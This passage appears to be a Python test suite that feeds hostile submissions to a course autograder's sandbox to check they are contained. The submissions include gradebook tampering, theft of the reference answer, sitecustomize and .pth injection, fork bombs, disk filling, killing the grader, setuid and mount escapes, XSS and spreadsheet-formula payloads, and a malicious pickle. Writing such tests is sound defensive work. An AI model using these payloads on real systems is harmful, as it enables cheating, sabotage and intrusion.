                except Exception as error:  # not all of it is left
                    print(error)
            before = page
    return found
"""
_NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "outputs": ["x" * 300_000], "source": HONEST}] * 3})
ATTACKS.append(
    Attack(
        "what an earlier submission left in memory",
        ((("theirs.ipynb", _NOTEBOOK),), program(trying({}, _SCAN))),
    )
)
ATTACKS.append(
    Attack(
        "the course's own answer, carried over from where another exercise was asked",
        (
            program(
                """
def leave():
    import course_utils.data.pairs as pairs
    source = inspect.getsource(pairs.match_pairs)
    for path in ("left", os.environ["HOME"] + "/left", os.environ["TMPDIR"] + "/left", "/dev/shm/course-attack-left"):
        try:
            open(path, "w").write(source)
        except OSError:
            pass
    try:
        os.mkdir("hidden", 0o300)
        open("hidden/left", "w").write(source)
    except OSError:
        pass
    print(source)

left = leave()

def psnr(restored, clean, border=0):
    return left

def taken_from(source):
    import course_utils.data.pairs as pairs
    exec(source[source.index("def match_pairs(") :], vars(pairs))
    return pairs.match_pairs

def from_a_file():
    for path in glob.glob("*") + glob.glob("../*") + ["hidden/left", "/dev/shm/course-attack-left"]:
        try:
            return taken_from(open(path).read())
        except (OSError, ValueError):
            pass

def from_the_server():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, bytes | bytearray) and b"def match_pairs(clean_folder" in value:
                return taken_from(json.loads(value[8 : 8 + int.from_bytes(value[:4])])["printed"])
        frame = frame.f_back

got = attempts({"from a file": from_a_file, "from the server": from_the_server})

def match_pairs(clean_folder, scan_folder):
    return got(clean_folder, scan_folder)
"""
            ),
        ),
        exercise="match_pairs",
        outcome="raised|holds",
        scratch=True,
        further="files that anybody may read and write",
    )
)
ATTACKS.append(
    Attack(
        "something left for the next submission",
        (
            program(
                trying(
                    {
                        "in shared memory": 'leave("/dev/shm/course-attack-left")',
                        "in a temporary folder": 'leave("/tmp/course-attack-left")',
                        "in another temporary folder": 'leave("/var/tmp/course-attack-left")',
                        "in a folder above": 'leave("../course-attack-left")',
                        "as a shared segment": 'syscall("shmget", 0x41544143, 4096, 0o1666) >= 0',
                        "as a semaphore": 'syscall("semget", 0x41544143, 1, 0o1666) >= 0',
                        "as a queue": 'syscall("msgget", 0x41544143, 0o1666) >= 0',
                        "as a posix queue": 'syscall("mq_open", b"course-attack", 0o102, 0o666, 0) >= 0',
                        "as a key": 'syscall("add_key", b"user", b"course-attack", b"left", 4, -4) >= 0',
                        "as a file in memory": 'syscall("memfd_create", b"course-attack", 0) >= 0',
                        "as a lock": 'fcntl.lockf(open("course-attack-lock", "w"), fcntl.LOCK_EX) is None',
                    },
                    """
def leave(path):
    with open(path, "w") as file:
        file.write("course-attack-left")
    return path

def in_its_folder():
    leave("course-attack-left"), os.mkdir("course-attack-hidden", 0o300), leave("course-attack-hidden/left")

def as_a_socket():
    left = socket.socket(socket.AF_UNIX)
    left.bind("\\0course-attack")
    return left

def as_a_process():
    if os.fork() == 0:
        os.setsid()
        time.sleep(20)
        os._exit(0)
    return True
""",
                )
            ),
            program(
                trying(
                    {
                        "in its folder": 'os.listdir(".") + glob.glob("course-attack*")',
                        "in a folder that is hard to empty": 'open("course-attack-hidden/left").read()',
                        "above": 'glob.glob("../course-attack*")',
                        "in shared memory": 'glob.glob("/dev/shm/course-attack*")',
                        "in temporary folders": 'glob.glob("/tmp/course-attack*") + glob.glob("/var/tmp/course-a*")',
                        "as a key": 'syscall("add_key", b"user", b"course-attack", b"left", 4, -4) >= 0',
                    },
                    """
def as_a_shared_segment():
    found = syscall("shmget", 0x41544143, 4096, 0)
    return syscall("shmctl", found, 0, 0) == 0

def as_a_socket():
    socket.socket(socket.AF_UNIX).connect("\\0course-attack")
    return True

def as_a_module():
    import sitecustomize
    return "left" in open(sitecustomize.__file__).read()
""",
                )
            ),
        ),
        scratch=True,
        further="what the kernel keeps for a user",
        surely=True,
    )
)

# --- To write what is not one's own ---

tries(
    "writing the gradebook",
    {
        "overwritten": 'open(RECORDS, "r+b", buffering=0).write(b"{")',
        "emptied": "os.truncate(RECORDS, 0) is None",
        "removed": "os.remove(RECORDS) is None",
        "renamed": 'os.rename(RECORDS, RECORDS + ".old") is None',
        "opened up": "os.chmod(RECORDS, 0o777) is None",
        "given away": "os.chown(RECORDS, os.getuid(), -1) is None",
        "dated back": "os.utime(RECORDS, (0, 0)) is None",
        "marked": 'os.setxattr(RECORDS, "user.points", b"300") is None',
        "through the grader": 'os.open(f"/proc/{GRADER}/fd/3", os.O_WRONLY) > 0',
        "beside it": 'open(os.path.dirname(RECORDS) + "/gradebook.csv", "w").write("mallory,300\\n")',
        "in a new folder": 'os.mkdir(os.path.dirname(RECORDS) + "/feedback2") is None',
        "another submission": 'open(SUBMISSION, "a").write("# not mine")',
        "by shell": 'os.system(f"echo 300 >> {RECORDS}") == 0',
    },
    """
LINE = '{"schema": 1, "key": "mallory", "points": 300}\\n'

def appended():
    with open(RECORDS, "a") as file:
        return file.write(LINE)

def replaced():
    open("new", "w").write(LINE)
    return os.replace("new", RECORDS) is None

def through_a_link():
    os.symlink(RECORDS, "records")
    return open("records", "a").write(LINE)

def through_a_hard_link():
    os.link(RECORDS, "records2")
    return open("records2", "a").write(LINE)

def sent():
    place = os.open(RECORDS, os.O_WRONLY)
    return os.sendfile(place, os.open("/dev/zero", os.O_RDONLY), 0, 10)
""",
    further="everything, where the grader runs as the same user",
)
tries(
    "writing what others will import",
    {
        "in site packages": '[write(path + "/course_attack.pth") for path in sys.path if path.endswith("-packages")]',
        "in the library": 'write(os.path.dirname(os.__file__) + "/sitecustomize.py")',
        "in the package": 'write(PACKAGE + "/attack.py")',
        "in the base": 'write(KITS + "/base/course_utils/exercises/probing.py")',
        "in its kit": 'write(sys.path[0] + "/probe_of_answer.py")',
        "in another kit": 'write(KITS + "/match_pairs/probe_of_answer.py")',
        "in a folder of the path": '[write(path + "/attack.py") for path in sys.path if os.path.isdir(path)]',
        "above it": 'write("../kits.py")',
        "in the home of others": 'write(os.path.dirname(CLONE) + "/sitecustomize.py")',
    },
    """
def write(path):  # it could, but leaves no trace
    before = os.path.exists(path)
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
    if not before:
        os.remove(path)
    return path

def compiled():
    import course_utils.metrics
    return write(course_utils.metrics.__cached__)
""",
    further="everything, where the grader runs as the same user",
)
right(
    "files that might be imported next, and a changed path and folder",
    """
def nuisance():
    sys.path[:0] = [os.getcwd(), "/nowhere", CLONE, "\\ud800"]
    os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="x.py", LD_PRELOAD="x.so", TMPDIR="/nowhere", HOME="/")
    os.makedirs("course_utils/exercises", exist_ok=True)
    os.makedirs(".local/lib/python3.11/site-packages", exist_ok=True)
    for path in ("sitecustomize.py", "usercustomize.py", "probe_of_answer.py", "course_utils/__init__.py", "torch.py",
                 "json.py", "x.pth", "course_utils/exercises/probing.py", ".local/lib/python3.11/site-packages/x.pth"):
        pathlib.Path(path).write_text("import os; os._exit(3)")
    tempfile.tempdir = "/nowhere"
    os.chdir("course_utils")
    os.chdir("..")
""",
    scratch=True,
)
add(
    "temporary files in a place of the attacker's choice",
    """
def redirect():
    tempfile.tempdir = os.path.dirname(RECORDS)
    tempfile.mkdtemp = lambda *_, **__: os.path.dirname(RECORDS)
    os.environ["TMPDIR"] = os.path.dirname(RECORDS)
    shutil.rmtree = lambda *_, **__: None
    return []

pairs = redirect()

def match_pairs(clean_folder, scan_folder):
    return pairs
""",
    exercise="match_pairs",
    outcome="raised|does not hold|stopped",
    further="folders in places that anybody may write",
    scratch=True,
)
for _name, _source in {
    "files": """
def files():
    written = 0
    for number in range(192):
        with open(f"file{number}", "wb", buffering=0) as file:
            written += file.write(bytes(2**24))  # or as much as one may hold
        if written > 2**27:
            return f"{written >> 20} MiB"
""",
    "files without a name": """
def files():
    written, library = 0, ctypes.CDLL(None)
    for number in range(192):
        with open("nameless", "w+b", buffering=0) as file:
            written += file.write(bytes(2**24))
            library.mmap(None, ctypes.c_size_t(4096), 1, 1, file.fileno(), ctypes.c_long(0))  # which keeps all of it
        os.remove("nameless")
        if written > 2**27:
            return f"{written >> 20} MiB"
""",
    "one large file": """
def one():
    with open("large", "wb", buffering=0) as file:
        for _ in range(32):
            if file.write(bytes(2**24)) < 2**24:
                break
        return file.tell() > 2**27

def reserved():
    with open("reserved", "wb") as file:
        return os.posix_fallocate(file.fileno(), 0, 2**30) is None

def a_hole():
    return os.truncate("large", 2**40) is None
""",
}.items():
    tries(
        f"filling the disk: {_name}",
        {},
        _source,
        further="as much as it writes in its time",
        outcome="does not hold|stopped",
        scratch=True,
    )
tries(
    "5,000 files",
    {},
    """
def files():
    made = 0
    for number in range(5_000):
        try:
            os.close(os.open(f"file{number}", os.O_CREAT | os.O_WRONLY))
            made += 1
        except OSError:
            break
    print("made", made)
""",
    outcome="does not hold|stopped",
    scratch=True,
)
tries(
    "folders within folders, 1,500 deep",
    {},
    """
def folders():
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")

def names_that_are_hard_to_remove():
    for name in ("-rf", "\\n", "\\x1b[2J", "\\udcff", "*", " ", "x" * 255, ".. ", "\\\\"):
        os.mkdir(name, 0)
        os.mkdir(name[:250] + "2", 0o300)
""",
    outcome="does not hold|stopped",
    scratch=True,
)
tries(
    "other places of the file system",
    {
        "unshare mounts": 'syscall("unshare", 0x00020000) == 0',
        "unshare users": 'syscall("unshare", 0x10000000) == 0',
        "mount proc": 'syscall("mount", b"proc", b".", b"proc", 0, 0) == 0',
        "mount writable": 'syscall("mount", b"none", b"/", 0, 32 | 4096, 0) == 0',
        "new root": 'syscall("chroot", b".") == 0',
        "join": 'syscall("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0',
        "open a tree": 'syscall("open_tree", -100, b"/", 1) >= 0',
        "open a file system": 'syscall("fsopen", b"tmpfs", 0) >= 0',
        "device": 'os.mknod("disk", 0o60666, os.makedev(254, 0)) is None',
        "pipe with a name": 'os.mkfifo("pipe") is None',
        "set user": 'os.setuid(0) is None and os.getuid() == 0 and open("/etc/shadow", "a")',
    },
    """
def a_program_that_sets_its_user():
    open("program", "w").write("#!/bin/sh")
    return os.chmod("program", 0o6777) is None
""",
    further="what a user without rights may do",
    scratch=True,
)

# --- Processes and signals ---

tries(
    "processes",
    {
        "spawned": 'os.posix_spawn("/bin/true", ["true"], {})',
        "run": 'subprocess.run(["true"]).returncode == 0',
        "shell": 'os.system("true") == 0',
        "opened": 'os.popen("echo 1").read()',
        "a file in memory": 'syscall("memfd_create", b"x", 0) >= 0',
    },
    """
def forked():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)[0] == pid

def cloned():
    if syscall("clone", 17, 0, 0, 0, 0) == 0:
        os._exit(0)
    return True

def cloned_with_clone3():
    if syscall("clone3", struct.pack("Q8xQQQQ40x", 0, 0, 0, 0, 17)[:64].ljust(64, b"\\0"), 64) == 0:
        os._exit(0)
    return True

def from_multiprocessing():
    import multiprocessing
    process = multiprocessing.get_context("fork").Process(target=print)
    process.start()
    process.join()
    return process.exitcode == 0
""",
    further="processes, which do not outlive the answer",
    surely=True,
)
dies(
    "another program in its place",
    """
def psnr(restored, clean, border=0):
    os.execv("/bin/echo", ["echo", "20.0"])
""",
    outcome="stopped|raised",
    error="",
)
tries(
    "a fork bomb",
    {},
    """
def bomb():
    end, first = time.monotonic() + 3, os.fork()  # where it cannot even begin, it is refused here
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.02)
    os._exit(0)
""",
    further="64 processes, until the answer's time is over",
    outcome="does not hold|stopped",
)
tries(
    "a process that lets go of everything and stays",
    {},
    """
def twice():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
            time.sleep(60)
        os._exit(0)
    return True
""",
    further="a process, which does not outlive the answer",
    surely=True,
)
tries(
    "a process that keeps the pipe",
    {},
    """
def kept():
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
    return True
""",
    further="a process, which does not outlive the answer",
    outcome="does not hold|stopped",
)
tries(
    "threads, as many as there can be",
    {},
    """
def many():
    made = 0
    try:
        for made in range(1000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError as error:
        print(error)
    return made > 500
""",
    outcome="does not hold|stopped",
    further="threads, where no limit of processes binds the user",
)
right(
    "threads that stay",
    """
def nuisance():
    if threading.active_count() < 5:
        threading.Thread(target=time.sleep, args=(60,)).start()
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
""",
)
tries(
    "signals to others",
    {
        "the parent ends": "os.kill(PARENT, signal.SIGKILL) is None",
        "the parent stops": "os.kill(PARENT, signal.SIGSTOP) is None",
        "the group": "os.kill(0, 0) is None",
        "all of them": "os.kill(-1, 0) is None",
        "the grader": "os.kill(GRADER, 0) is None",
        "process 1": "os.kill(1, 0) is None",
        "a thread of the parent": 'syscall("tgkill", PARENT, PARENT, signal.SIGKILL) == 0',
        "by descriptor": 'syscall("pidfd_send_signal", syscall("pidfd_open", PARENT, 0), 9, 0, 0) == 0',
    },
    """
def a_queued_one():
    information = struct.pack("iii", signal.SIGKILL, 0, -1).ljust(128, b"\\0")
    return syscall("rt_sigqueueinfo", PARENT, signal.SIGKILL, information) == 0

def by_a_file_that_is_ready():
    out, into = os.pipe()
    fcntl.fcntl(out, fcntl.F_SETOWN, PARENT)
    fcntl.fcntl(out, 10, signal.SIGKILL)
    fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC)
    return os.write(into, b"1")
""",
    further="signals to processes of the same user",
    outcome="does not hold|stopped",
)
tries(
    "limits and priorities of others",
    {
        "cpu of the parent": "resource.prlimit(PARENT, resource.RLIMIT_CPU, (1, 1)) is not None",
        "memory of the grader": "resource.prlimit(GRADER, resource.RLIMIT_AS, (2**40, 2**40)) is not None",
        "own limits": "resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6)) is None",
        "own memory": "resource.setrlimit(resource.RLIMIT_AS, (2**40, 2**40)) is None",
        "priority": "os.setpriority(os.PRIO_PROCESS, PARENT, 19) is None",
        "processors": "os.sched_setaffinity(PARENT, {0}) is None",
        "real time": "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) is None",
        "disk": 'syscall("ioprio_set", 1, PARENT, 3 << 13) == 0',
    },
    further="limits of processes of the same user",
)
tries(
    "calls that no answer needs",
    {
        f"{name}": f"syscall({name!r}, {arguments}) >= 0"
        for name, arguments in {
            "io_uring_setup": "1, bytes(120)",
            "bpf": "0, bytes(72), 72",
            "userfaultfd": "0",
            "perf_event_open": "bytes(128), 0, -1, -1, 0",
            "seccomp": "3, 0, bytes(6)",
            "personality": "0x0040000",
            "memfd_secret": "0",
            "syslog": "3, bytes(100), 100",
            "fanotify_init": "0, 0",
            "inotify_init1": "0",
            "timer_create": "0, 0, bytes(8)",
            "signalfd4": "-1, bytes(8), 8, 0",
            "landlock_create_ruleset": "0, 0, 1",
            "name_to_handle_at": "-100, b'.', bytes(200), bytes(8), 0",
            "execveat": "-100, b'/dev/null', 0, 0, 0",
            "quotactl": "0, 0, 0, 0",
        }.items()
    },
    """
def of_32_bits():
    if platform.machine() != "x86_64":
        return None
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))  # mov eax, getpid; int 0x80; ret
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))() > 0

def of_x32():
    library = ctypes.CDLL(None, use_errno=True)
    return platform.machine() == "x86_64" and library.syscall(ctypes.c_long(0x40000000 + 39)) > 0
""",
    further="what the kernel gives to everybody",
    surely=True,
)

# --- Network ---

tries(
    "the network",
    {
        "tcp": 'socket.create_connection(("127.0.0.1", PORT), timeout=1)',
        "tcp 6": 'socket.create_connection(("::1", PORT), timeout=1)',
        "udp": 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"seed", ("127.0.0.1", PORT))',
        "listening": 'socket.create_server(("127.0.0.1", 0))',
        "pair": "socket.socketpair()",
        "names": 'socket.gethostbyname("localhost")',
        "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
        "virtual machines": "socket.socket(40, socket.SOCK_STREAM)",
        "by ring": 'syscall("io_uring_setup", 8, bytes(120)) >= 0',
    },
    """
def unix():
    socket.socket(socket.AF_UNIX).connect(UNIX)
    return True

def abstract():
    socket.socket(socket.AF_UNIX).connect("\\0" + ABSTRACT)
    return True

def web():
    import urllib.request
    return urllib.request.urlopen(f"http://127.0.0.1:{PORT}", timeout=0.2)
""",
    further="the network",
    surely=True,
)

# --- Too much ---

for _name, _made in {
    "numpy": "np.ones(2**33, np.uint8)",
    "bytes": "b'x' * 2**33",
    "a bytearray": "bytearray(2**33)",
    "a list": "[0] * 2**30",
    "torch": "torch.ones(2**31)",
    "a number": "1 << 2**36",
    "a map": "mmap.mmap(-1, 2**33)",
}.items():
    add(
        f"8 GiB: {_name}",
        f"def psnr(restored, clean, border=0):\n    return {_made}\n",
        outcome="raised",
        error="",
    )
add(
    "8 GiB: little by little",
    """
def psnr(restored, clean, border=0):
    kept = []
    while True:
        kept.append(np.empty(2**24, np.uint8))
""",
    outcome="raised|stopped",
)
tries(
    "8 GiB: by threads",
    {},
    """
def shares():
    kept = []
    threads = [threading.Thread(target=lambda: kept.append(np.empty(2**30, np.uint8))) for _ in range(8)]
    threading.excepthook = lambda error: None
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return len(kept) > 2
""",
)
for _name, _body in {
    "Python": "while True:\n        pass",
    "C": "sum(iter(int, 1))",
    "what cannot be interrupted": "for number in signal.valid_signals() - {9, 19}:\n"
    "        signal.signal(number, signal.SIG_IGN)\n    while True:\n        try:\n            sum(iter(int, 1))\n"
    "        except BaseException:\n            pass",
}.items():
    hangs(f"endless: {_name}", f"def psnr(restored, clean, border=0):\n    {_body}\n")
for _name, _source in {
    "asleep": "def psnr(restored, clean, border=0):\n    time.sleep(10**6)\n",
    "a lock": "lock = threading.Lock()\n\n\ndef psnr(restored, clean, border=0):\n    lock.acquire(), lock.acquire()\n",
    "a pipe": "def psnr(restored, clean, border=0):\n    return os.read(os.pipe()[0], 1)\n",
    "a decorator": "def slow(function):\n    sum(iter(int, 1))\n\n\n@slow\ndef psnr(restored, clean):\n    pass\n",
    "an import": "started = sum(iter(int, 1))\n\n\ndef psnr(restored, clean, border=0):\n    return started\n",
    "stopped": "def psnr(restored, clean, border=0):\n    os.kill(os.getpid(), signal.SIGSTOP)\n",
    "after a last word": "def psnr(restored, clean, border=0):\n    os.closerange(3, 99), sum(iter(int, 1))\n",
    "what comes back dies slowly": "class Slow:\n    def __del__(self):\n        sum(iter(int, 1))\n\n\n"
    "def psnr(restored, clean, border=0):\n    return Slow()\n",
    "an error that is told slowly": "class Slow(Exception):\n    def __str__(self):\n        sum(iter(int, 1))\n\n\n"
    "def psnr(restored, clean, border=0):\n    raise Slow\n",
    "a name that is told slowly": "class Named(type):\n    __name__ = property(lambda cls: sum(iter(int, 1)))\n\n\n"
    "def psnr(restored, clean, border=0):\n    return Named('x', (), {})()\n",
    "an endless text": "def psnr(restored, clean, border=0):\n    while True:\n        print('x' * 1000)\n",
    "threads that compute": "def psnr(restored, clean, border=0):\n    for _ in range(4):\n"
    "        threading.Thread(target=lambda: torch.ones(500, 500).matrix_power(10**9)).start()\n    time.sleep(60)\n",
}.items():
    hangs(f"endless: {_name}", _source, rungs=ONE, error="no answer within 1 seconds")
for _name, _body, _error in (
    ("segmentation fault", "ctypes.string_at(0)", "segmentation fault"),
    ("abort", "os.abort()", "SIGABRT"),
    ("os._exit(0)", "os._exit(0)", "before it had answered"),
    ("os._exit(3)", "os._exit(3)", "before it had answered"),
    ("SIGKILL", "os.kill(os.getpid(), signal.SIGKILL)", "killed"),
    ("SIGTERM", "os.kill(os.getpid(), signal.SIGTERM)", "SIGTERM"),
    ("a signal without a name", "os.kill(os.getpid(), 40)", "40)"),
    ("no descriptor is left", "os.closerange(0, 256)", "before it had answered"),
    ("KeyboardInterrupt", "raise KeyboardInterrupt", "before it had answered"),
    ("an exception that is not one", "raise type('Other', (BaseException,), {})", "before it had answered"),
    (
        "an endless recursion in C",
        "sys.setrecursionlimit(10**9)\n    x = []\n    for _ in range(10**6):\n        x = [x]\n    repr(x)",
        "segmentation fault",
    ),
):
    # To fill the stack takes a second or two of its own.
    dies(f"ends: {_name}", f"def psnr(restored, clean, border=0):\n    {_body}\n", _error, seconds=10)
for _name, _body, _outcome, _error in (
    ("sys.exit", "sys.exit('<b>bye</b>')", "raised", "SystemExit: <b>bye</b>"),
    ("a recursion", "return psnr(restored, clean)", "raised", "RecursionError"),
    (
        "a recursion without limit",
        "sys.setrecursionlimit(10**9)\n    return psnr(restored, clean)",
        "raised|stopped",
        "",
    ),
    ("not written yet", "raise NotImplementedError('=1+1')", "not attempted", ""),
):
    add(f"ends: {_name}", f"def psnr(restored, clean, border=0):\n    {_body}\n", outcome=_outcome, error=_error)
right(
    "what waits for the end of the process",
    """
import atexit

class Slow:
    def __del__(self):
        sum(iter(int, 1))

slow = Slow()
atexit.register(sum, iter(int, 1))
threading._register_atexit(sum, iter(int, 1))

def nuisance():
    return slow
""",
)
right(
    "10 GB of prints",
    """
TEXT = "x" * 10**8

def nuisance():
    for _ in range(5):
        print(TEXT)
""",
)
right(
    "2 GB on stderr",
    """
TEXT = "x" * 10**8

def nuisance():
    print(TEXT, file=sys.stderr)
    print("\\x1b[2J\\ud800 a warning", file=sys.stderr)
""",
)
right(
    "output past Python, and warnings",
    """
BYTES = b"\\xff" * 10**7

def nuisance():
    os.write(1, BYTES), os.write(2, BYTES)
    warnings.warn("deprecated", DeprecationWarning), warnings.warn("\\ud800", UserWarning)
    sys.__stderr__.write("x" * 10**6), sys.__stdout__.write("x" * 10**6)
    sys.stdout = sys.stderr = None
""",
)
right(
    "signals ignored, limits lowered, another number of everything",
    """
def nuisance():
    for number in signal.valid_signals() - {9, 19}:
        signal.signal(number, signal.SIG_IGN)
    torch.manual_seed(1), np.random.seed(1), random.seed(1), torch.set_default_dtype(torch.float64)
    torch.set_grad_enabled(False), np.seterr(all="raise")
    sys.setrecursionlimit(500), gc.disable(), sys.setswitchinterval(1e-9)
    resource.setrlimit(resource.RLIMIT_NOFILE, (20, 20))
    sys.settrace(lambda *_: None), sys.setprofile(lambda *_: None)
""",
)

# --- Texts that act where they are shown ---

_LIVE = "</pre></script><script>alert(1)</script><img src=x onerror=alert(1)>"
for _name, _text in {
    "HTML": _LIVE,
    "a formula": "=cmd|' /C calc'!A0",
    "a terminal": "\x1b]0;owned\x07\x1b[2J\x9b",
    "surrogates": "\udfff\udcff\ud800",
    "what turns letters round": "\u202e\u2066\u2028\x85\x00",
}.items():
    _quoted = ascii(_text)
    add(
        f"text: {_name} in an error and its name",
        f"def psnr(restored, clean, border=0):\n    text = {_quoted}\n"
        "    raise type(text.replace(chr(0), ''), (Exception,), {})(text)\n",
        outcome="raised|stopped",
    )
    add(
        f"text: {_name} in what is printed and returned",
        f"def psnr(restored, clean, border=0):\n    print({_quoted})\n"
        f"    return type({_quoted}.replace(chr(0), ''), (), {{}})()\n",
        outcome="does not hold|raised|stopped",
    )
    ATTACKS.append(
        Attack(
            f"text: {_name} in names",
            (((f"{_text}.py", HONEST), (f"../../{_text}/..\\{_text}.ipynb", "{}"), (_text, b"\xff" * 100)),),
            points=8,
            outcome="holds",
            student=_text,
        )
    )
right(
    "text: HTML in the source",
    f'''
def nuisance():
    """{_LIVE}"""
    # =1+1 <script>alert(1)</script>
''',
)
for _name, _error in {
    "a text of 100 MB": "ValueError('x' * 10**8)",
    "a text that fails": "type('E', (Exception,), {'__str__': lambda self: 1 / 0, '__repr__': lambda self: 1 / 0})()",
    "a text of another kind": "type('E', (Exception,), {'__str__': lambda self: 1})()",
    "10,000 arguments": "ValueError(*range(10_000))",
    "notes": "noted()",
    "a thousand causes": "caused()",
    "a group of groups": "grouped()",
    "its own cause": "looped()",
}.items():
    add(
        f"an error: {_name}",
        f"""
def noted():
    error = ValueError("x")
    error.__notes__ = ["<b>" * 10**6, 1, None]
    return error

def caused():
    error = None
    for _ in range(1000):
        new = ValueError("x")
        new.__cause__, error = error, new
    return error

def grouped():
    error = ValueError("x")
    for _ in range(500):
        error = ExceptionGroup("<b>", [error])
    return error

def looped():
    error = ValueError("x")
    error.__context__ = KeyError("y")
    error.__context__.__context__ = error
    return error

def psnr(restored, clean, border=0):
    raise {_error}
""",
        outcome="raised|stopped",
    )

# --- Notebooks that are hostile to their reader ---


def notebook(*sources, **more):
    """A notebook of such cells, as text."""
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": source} for source in sources]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5} | more)


def reads(name, file, content, points=None, **more):
    """An attack on the reader."""
    outcome = "holds" if points else "holds|not attempted|raised|stopped"
    files = ((file, content),)
    ATTACKS.append(Attack(f"reader: {name}", (files,), points=points, outcome=outcome, **{"rungs": SAFE} | more))


_BAD = {
    "100,000 brackets": "x = " + "[" * 100_000,
    "100,000 brackets that close": "x = " + "[" * 100_000 + "]" * 100_000,
    "100,000 signs": "x = " + "-" * 100_000 + "1",
    "100,000 times not": "x = " + "not " * 100_000 + "1",
    "100,000 sums": "x = " + "1 + " * 100_000 + "1",
    "100,000 attributes": "x = a" + ".b" * 100_000,
    "100,000 calls": "x = a" + "()" * 100_000,
    "10,000 lambdas": "x = " + "lambda: " * 10_000 + "1",
    "5,000 branches": "if a:\n    pass\n" + "elif a:\n    pass\n" * 5_000,
    "99 levels": "".join("    " * level + "if a:\n" for level in range(99)) + "    " * 99 + "pass",
    "a number of a million digits": "x = " + "9" * 10**6,
    "a million null bytes": "x = 1" + "\0" * 10**6,
    "an f-string in an f-string": "x = " + "f'{" * 100 + "1" + "}'" * 100,
    "names that look alike": "\n".join(f"{'ﬁ' * 50}{number} = 1" for number in range(1000)),
    "a magic line of 50,000 names": "a, " * 50_000 + "= !ls",
    "500,000 empty lines": " \n" * 500_000 + " else",
    "quotes": "'''" * 100_001,
}
for _number, (_name, _bad) in enumerate(_BAD.items()):
    if _number % 2:
        reads(_name, "bad.ipynb", notebook(_bad[:999_000], HONEST), points=8)
    else:
        reads(_name, "bad.py", f"{_bad}\n# %%\n{HONEST}")
for _name, _content in {
    "nested 10**6 deep": "[" * 10**6,
    "nested 10**6 deep, as cells": '{"cells": ' + "[" * 10**6 + "]" * 10**6 + "}",
    "nested 10**5 deep, as metadata": '{"cells": [], "metadata": ' + '{"a":' * 10**5 + "1" + "}" * 10**6,
    "100,000 cells": notebook(*["x = 1"] * 100_000, HONEST),
    "100,000 cells that break off": '{"cells": [' + '{"cell_type": "code", "source": "("}, ' * 100_000,
    "5,000 cells that are none": notebook(*["if x:"] * 4_999, HONEST),
    "a cell of 19 MB": notebook("x" * 19_000_000),
    "25 MB": notebook("x = 1", "y" * 25_000_000),
    "a million keys": json.dumps({"cells": [], **dict.fromkeys(map(str, range(10**6)), 1)}),
    "numbers and nothing in place of cells": json.dumps({"cells": [1, None, [], "x", {"source": {"a": 1}}]}),
    "a million lines in a list": notebook(["x\n"] * 10**6),
    "a version of a million digits": '{"cells": [], "nbformat": ' + "9" * 10**6 + "}",
    "20,000 definitions": notebook("\n".join("def psnr(a, b):\n    return 1\n" for _ in range(20_000))),
    "functions that use each other": notebook(
        "\n".join(f"def f{i}():\n    return {' + '.join(f'f{j}()' for j in range(100))}" for i in range(100)),
        "def psnr(restored, clean, border=0):\n    return f0()",
    ),
    "3,000 star imports": notebook("from torch import *\n" * 3_000, HONEST),
    "random bytes": bytes(range(256)) * 1000,
    "UTF-32 that is none": b"\xff\xfe\0\0" + b"\xff" * 10**6,
    "a pickle": b"\x80\x04cposix\nsystem\n(S'true'\ntR.",
    "nothing": b"",
}.items():
    reads(_name, "bad.ipynb", _content)
reads("a name that is a path", "/etc/passwd", HONEST)
reads("a name of 100,000 letters", "x" * 100_000 + ".py", HONEST, points=8)
reads("names without end", "../" * 1000 + "a\0b.py", HONEST, points=8)
ATTACKS.append(
    Attack("reader: 1,000 files of one name", ((("a.py", HONEST),) * 1000,), points=None, outcome="holds|not attempted")
)
add(
    "the parser, when the answer is defined",
    f"def psnr(restored, clean, border=0):\n    return eval({'-' * 10!r} * 100_000 + '1')\n",
    outcome="raised|stopped",
)
